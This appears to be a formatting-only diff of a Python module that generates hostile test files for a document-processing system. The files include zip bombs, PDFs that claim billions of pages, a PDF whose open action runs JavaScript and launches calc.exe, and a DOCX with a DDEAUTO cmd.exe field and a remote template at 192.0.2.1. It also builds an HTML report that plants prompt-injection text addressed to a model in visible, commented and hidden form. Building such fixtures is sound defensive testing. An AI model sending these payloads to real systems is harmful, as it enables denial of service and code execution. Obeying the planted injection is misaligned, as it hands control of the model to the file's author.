@@ -66,7 +66,8 @@ def _raw_zip(name: str, packed: bytes, n: int, copies: int = 1) -> bytes:
         crc = zlib.crc32(b"\n" * (1 << 20), crc)
     local = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 33, crc, len(packed), n & 0xFFFFFFFF, len(head), 0)
     entry = struct.pack(
-        "<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, 8, 0, 33, crc, len(packed), n & 0xFFFFFFFF, len(head), 0, 0, 0, 0, 0, 0
+        "<4sHHHHHHIIIHHHHHII",
+        *(b"PK\1\2", 20, 20, 0, 8, 0, 33, crc, len(packed), n & 0xFFFFFFFF, len(head), 0, 0, 0, 0, 0, 0),
     )  # fmt: skip
     body = local + head + packed
     directory = (entry + head) * copies
@@ -139,11 +140,14 @@ def zip_entries(size: float) -> bytes:
     """Return a zip of 400,000 empty entries."""
     n = max(int(size * 400_000), 50)
     out = io.BytesIO()
-    local = [struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 0, 0, 33, 0, 0, 0, 10, 0) + b"%06d.txt" % k for k in range(n)]
+    local = [
+        struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 0, 0, 33, 0, 0, 0, 10, 0) + b"%06d.txt" % k for k in range(n)
+    ]
     out.write(b"".join(local))
     each = len(local[0])
     directory = b"".join(
-        struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, 0, 0, 33, 0, 0, 0, 10, 0, 0, 0, 0, 0, k * each) + b"%06d.txt" % k
+        struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, 0, 0, 33, 0, 0, 0, 10, 0, 0, 0, 0, 0, k * each)
+        + b"%06d.txt" % k
         for k in range(n)
     )
     end = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, n & 0xFFFF, n & 0xFFFF, len(directory), out.tell(), 0)
@@ -192,7 +196,9 @@ def pdf_million_pages(size: float) -> bytes:
 
 def pdf_page_tree(size: float) -> bytes:
     """Return a PDF of 20 objects that says it has ten thousand million pages: each node names the next ten times."""
-    nodes = [b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b"%d 0 R " % (3 + n) * 10, 10 ** (10 - n)) for n in range(10)]
+    nodes = [
+        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b"%d 0 R " % (3 + n) * 10, 10 ** (10 - n)) for n in range(10)
+    ]
     return pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *nodes, _page(13, 14, 11), stream(_CONTENT), _FONT])
 
 
@@ -244,7 +250,8 @@ def pdf_deep(size: float) -> bytes:
 
 def pdf_script(size: float) -> bytes:
     """Return a PDF that would run JavaScript and start a program when it is opened."""
-    action = b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('http://192.0.2.1/'\\)) /Next << /S /Launch /F (calc.exe) >> >>"
+    action = b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('http://192.0.2.1/'\\)) /Next "
+    action += b"<< /S /Launch /F (calc.exe) >> >>"
     return _small_pdf(stream(_CONTENT), catalogue=action)
 
 
@@ -311,7 +318,9 @@ def docx_remote(size: float) -> bytes:
         b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
         b'Target="http://192.0.2.1/t.dotm" TargetMode="External"/></Relationships>'
     )
-    field = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r></w:p>'
+    field = (
+        '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r></w:p>'
+    )
     more = [("word/_rels/document.xml.rels", rels), ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro")]
     return docx(_paragraph(_PROSE) + field, more=more)
 
@@ -365,7 +374,9 @@ def text_dots(size: float) -> bytes:
 def markdown_brackets(size: float) -> bytes:
     """Return 10 MB of Markdown that a careless parser reads in the square of its length."""
     n = max(int(size * 1_000_000), 2000)
-    return b"\n\n".join([b"[" * n, b"](" * n, b"`" * 3 + b" ` `` " * (n // 3), b"*a _b " * (n // 3), b"<!--" * (n // 2), b"|-" * n])
+    return b"\n\n".join(
+        [b"[" * n, b"](" * n, b"`" * 3 + b" ` `` " * (n // 3), b"*a _b " * (n // 3), b"<!--" * (n // 2), b"|-" * n]
+    )
 
 
 def mail_deep(size: float) -> bytes:
@@ -380,9 +391,10 @@ def mail_in_mail(size: float) -> bytes:
     body = f"From: a@a.example\nTo: b@b.example\nSubject: inner\nContent-Type: text/plain\n\n{_PROSE}\n"
     for _ in range(max(int(size * 100), 8)):
         body = f"From: a@a.example\nTo: b@b.example\nSubject: outer\nContent-Type: message/rfc822\n\n{body}"
+        inner = body.replace("--q", "--Q").replace('"q"', '"Q"')
         body = (
             'From: a@a.example\nTo: b@b.example\nSubject: wrap\nContent-Type: multipart/mixed; boundary="q"\n\n--q\n'
-            f"Content-Type: message/rfc822\n\n{body.replace('--q', '--Q').replace(chr(34) + 'q' + chr(34), chr(34) + 'Q' + chr(34))}\n--q--\n"
+            f"Content-Type: message/rfc822\n\n{inner}\n--q--\n"
         )
         if len(body) > 2_000_000:
             break
@@ -392,7 +404,9 @@ def mail_in_mail(size: float) -> bytes:
 def mail_headers(size: float) -> bytes:
     """Return a message of a million headers."""
     n = max(int(size * 1_000_000), 1000)
-    return b"From: a@a.example\nTo: b@b.example\nSubject: x\n" + b"Received: from x by y\n" * n + b"\n" + _PROSE.encode()
+    return (
+        b"From: a@a.example\nTo: b@b.example\nSubject: x\n" + b"Received: from x by y\n" * n + b"\n" + _PROSE.encode()
+    )
 
 
 def json_deep(size: float) -> bytes:
@@ -434,7 +448,7 @@ def noise(size: float) -> bytes:
 
 
 def injection(size: float) -> bytes:
-    """Return a report that speaks to a model: in its text, in a comment, in white letters, in the words of a picture."""
+    """Return a report that speaks to a model: in its text, a comment, hidden letters, the words of a picture."""
     return (
         f"<!doctype html><html><head><title>Report</title></head><body><article><h1>Report</h1><p>{_PROSE * 3}</p>"
         f"<p>{INJECTION}</p><!-- {INJECTION} --><p style='display:none'>{INJECTION}</p>"
